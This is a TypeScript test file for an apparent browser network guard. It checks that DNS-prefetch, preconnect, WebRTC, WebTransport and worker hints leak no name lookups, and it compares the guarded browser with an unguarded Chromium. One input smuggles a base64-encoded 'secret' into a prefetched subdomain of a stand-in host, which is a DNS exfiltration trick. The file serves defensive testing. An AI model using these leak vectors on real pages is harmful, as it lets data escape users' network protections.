import { chmod, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import type { SiteHandler } from '@palisade/lab/site';
import { chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserOrSkip, found, startLab, type Lab } from '../../test/lab-browser.ts';
import { openSession } from '../session.ts';

/** Hints that make a browser resolve a name, or connect to it, before anything is requested. Each has its own name. */
const HINTS = {
  markup: (at: string) => `<link rel=dns-prefetch href="//${at}/">`,
  'markup-to-connect': (at: string) => `<link rel=preconnect href="https://${at}/" crossorigin>`,
  'markup-of-both': (at: string) => `<link rel="preconnect dns-prefetch" href="https://${at}/">`,
  body: (at: string) => `<body><link rel=dns-prefetch href="https://${at}:8443/">`,
  'link-in-text': (at: string) => `<a href="https://${at}/">x</a>`,
  'frame-of-its-own': (at: string) =>
    `<iframe srcdoc="<link rel=dns-prefetch href=//${at}/><a href=//link-${at}/>x</a>"></iframe>`,
  'template-that-is-used': (at: string) => `<template id=late><link rel=dns-prefetch href="//${at}/"></template>`,
} as const;
const SCRIPTED = {
  scripted: (at: string) => `add({ rel: 'dns-prefetch', href: '//${at}/' })`,
  'scripted-to-connect': (at: string) => `add({ rel: 'preconnect', href: 'https://${at}/' })`,
  'exfiltrated-from-a-script': (at: string) =>
    `add({ rel: 'dns-prefetch', href: '//' + btoa('secret').replace(/=/g, '').toLowerCase() + '.${at}/' })`,
  'peer-server': (at: string) =>
    `(async () => { const one = new RTCPeerConnection({ iceServers: [{ urls: ['stun:${at}:3478', 'turns:${at}:5349'], username: 'u', credential: 'p' }] }); one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer()); })()`,
  'peer-of-a-local-name': (at: string) =>
    `(async () => { const one = new RTCPeerConnection(); one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer()); await one.setRemoteDescription({ type: 'answer', sdp: one.localDescription.sdp.replace('actpass', 'active') }); await one.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ${at} 9 typ host', sdpMid: '0' }); })()`,
  transport: (at: string) => `new WebTransport('https://${at}/').ready`,
  worker: (at: string) => `new Worker(URL.createObjectURL(new Blob(["new WebSocket('wss://${at}/')"])))`,
} as const;
const HEADERS = {
  'header-of-the-page': (at: string) => `<https://${at}>; rel=dns-prefetch`,
  'header-to-connect': (at: string) => `<https://${at}>; rel=preconnect; crossorigin`,
} as const;
const SUFFIX = 'names.test';
const nameOf = (way: string): string => `${way}.${SUFFIX}`;
const each = (ways: Readonly<Record<string, (at: string) => string>>): string[] =>
  Object.entries(ways).map(([way, make]) => make(nameOf(way)));

/** Of the resolver, as Chromium's log of its network names them. */
const RESOLVES = [
  'HOST_RESOLVER_MANAGER_REQUEST',
  'HOST_RESOLVER_MANAGER_JOB',
  'DNS_TRANSACTION',
  'HOST_RESOLVER_SYSTEM_TASK',
];

/** Names of the hints that a browser resolved, or tried to. It may have been killed: its log has no end. */
function resolvedIn(log: string): string[] {
  const types = RESOLVES.map((name) => new RegExp(`"${name}":(\\d+)`, 'u').exec(log)?.[1]).filter(Boolean);
  const events = log
    .split('\n')
    .filter((line) => types.some((type) => new RegExp(`"type":${type}\\},?$`, 'u').test(line)));
  const ways = events.flatMap((line) => [...line.matchAll(/([a-z-]+)\.names\.test/gu)].map(([, way = '']) => way));
  return [...new Set(ways)].toSorted();
}

/** What a headless shell resolves in this very test; an ordinary Chromium resolves the hints, too. */
const IN_SHELL: readonly string[] = ['peer-server', 'transport', 'worker'];
/** It is for multicast: see multicast.test.ts. */
const NEVER = 'peer-of-a-local-name';

describe.skipIf(!browserOrSkip())('names in hints', () => {
  let lab: Lab;
  let folder: string;
  beforeAll(async () => {
    const page: SiteHandler = () => ({
      headers: [
        ['content-type', 'text/html'],
        ['x-dns-prefetch-control', 'on'],
        ...each(HEADERS).map((value): [string, string] => ['link', value]),
      ],
      body: `<!doctype html><title>t</title><meta http-equiv=x-dns-prefetch-control content=on>${each(HINTS).join('')}`,
    });
    lab = await startLab({ sites: [{ host: 'page.test', https: page, http: page }] });
    folder = await mkdtemp(path.join(tmpdir(), 'palisade-names-'));
    await chmod(folder, 0o777);
  });
  afterAll(async () => {
    await lab.close();
    await rm(folder, { recursive: true, force: true });
  });

  const tryAll = async (page: Page, url: string): Promise<void> => {
    await page.goto(url, { waitUntil: 'domcontentloaded' });
    await page.evaluate(`void (() => {
      const add = (attributes) => document.head.append(Object.assign(document.createElement('link'), attributes));
      document.body.append(document.querySelector('#late').content);
      for (const attempt of [${each(SCRIPTED)
        .map((one) => `async () => { await ${one} }`)
        .join(',')}]) attempt().catch(() => 0);
    })()`);
    // A pointer that comes near is a reason to connect.
    await page.hover('body > a').catch(() => undefined);
    await wait(3_000);
  };

  it('are resolved by no one, and connected to only through the guard', async () => {
    if (!found) throw new Error('no browser');
    const log = path.join(folder, 'guarded.json');
    const executable = path.join(folder, 'chromium');
    await writeFile(executable, `#!/bin/sh\nexec '${found.executable}' "$@" --log-net-log=${log}\n`, { mode: 0o755 });
    const session = await openSession({
      browser: { ...found, executable },
      policy: lab.policy,
      url: lab.url('page.test'),
    });
    await tryAll(session.page, lab.url('page.test'));
    const open = await session.fresh();
    await tryAll(open.page, lab.site('page.test').httpUrl());
    await session.close();
    const text = await readFile(log, 'utf8');
    expect(text).toContain('page.test');
    expect(resolvedIn(text)).toEqual([]);
    const asked = lab.dns.queries.map(({ name }) => name).filter((name) => name.endsWith(SUFFIX));
    // By the guard, for a request.
    expect([...new Set(asked)]).toEqual([nameOf('worker')]);
  });

  it('would be resolved by a browser without our guard and flags', async () => {
    if (!found) throw new Error('no browser');
    const log = path.join(folder, 'control.json');
    const context = await chromium.launchPersistentContext(path.join(folder, 'profile'), {
      ignoreHTTPSErrors: true,
      ignoreDefaultArgs: ['--disable-background-networking'],
      executablePath: found.executable,
      env: { ...process.env, ...found.env },
      args: ['--no-sandbox', '--disable-features=LocalNetworkAccessChecks', `--log-net-log=${log}`, `--host-resolver-rules=MAP page.test ${lab.site('page.test').address}`], // prettier-ignore
    });
    const page = await context.newPage();
    const { product } = await (await context.newCDPSession(page)).send('Browser.getVersion');
    await tryAll(page, lab.url('page.test'));
    await tryAll(page, lab.site('page.test').httpUrl());
    await context.close();
    const resolved = resolvedIn(await readFile(log, 'utf8'));
    const all = [HINTS, SCRIPTED, HEADERS].flatMap((ways) => Object.keys(ways)).filter((way) => way !== NEVER);
    expect((product.startsWith('Headless') ? IN_SHELL : all).filter((way) => !resolved.includes(way))).toEqual([]);
  });
});
